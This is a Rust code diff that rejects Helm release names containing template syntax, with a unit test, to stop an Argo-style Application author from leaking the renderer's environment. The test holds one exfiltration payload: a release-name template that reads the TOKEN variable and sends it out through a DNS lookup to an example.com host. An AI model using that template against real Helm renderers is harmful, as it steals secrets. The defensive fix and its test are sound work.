@@ -65,6 +65,7 @@ pub(super) fn render(
     offline: bool,
 ) -> Result<String, Unfetched> {
     let told = |error: &Error| Unfetched::rendering(&rendering.release, error);
+    refuse_template(&rendering.release).map_err(|error| told(&error))?;
     let unkept = |error: io::Error| {
         let sentence = format!("the chart cannot be written to a folder for Helm: {error}");
         told(&Error::new(Cause::Unusable, sentence))
@@ -88,6 +89,19 @@ pub(super) fn render(
     let ended = rendered.map_err(|error| told(&error))?;
     String::from_utf8(ended.answer)
         .map_err(|_| unkept(io::Error::other("its manifests are no text")))
+}
+
+/// Refuses a release name that Helm would fill in: `--name-template` knows `env` and `getHostByName` (Helm's
+/// `TemplateName`), so that whoever writes an Application could send the reader's environment away.
+fn refuse_template(release: &str) -> Result<(), Error> {
+    match release.contains("{{") {
+        true => Err(Error::new(
+            Cause::Unusable,
+            "its release name is a template, which Helm would fill in with what it finds on this machine",
+        )
+        .next("see who wrote spec.source.helm.releaseName, and set a plain name")),
+        false => Ok(()),
+    }
 }
 
 fn template(helm: &Helm, chart: &Path, rendering: &Rendering) -> Result<Ended, Error> {
@@ -182,4 +196,27 @@ fn beside(chart: &BTreeMap<String, Vec<u8>>, folder: &str) -> Vec<String> {
         path::normal(&path::join(folder, path.strip_prefix("file://")?))
     });
     local.collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn said(release: &str) -> String {
+        let chart = BTreeMap::from([("Chart.yaml".to_owned(), b"name: web".to_vec())]);
+        let files = Contents::of_archive("1.0.0".to_owned(), chart);
+        let rendering = Rendering {
+            release: release.to_owned(),
+            ..Rendering::default()
+        };
+        let rendered = render(&Helm::at("/no/helm"), &files, "", &rendering, true);
+        rendered.unwrap_err().gap().message
+    }
+
+    #[test]
+    fn a_release_name_that_helm_would_fill_in_is_refused() {
+        let stolen = r#"{{ getHostByName (printf "%s.example.com" (env "TOKEN")) }}"#;
+        assert!(said(stolen).contains("is a template"), "{}", said(stolen));
+        assert!(said("web").contains("/no/helm"), "{}", said("web"));
+    }
 }
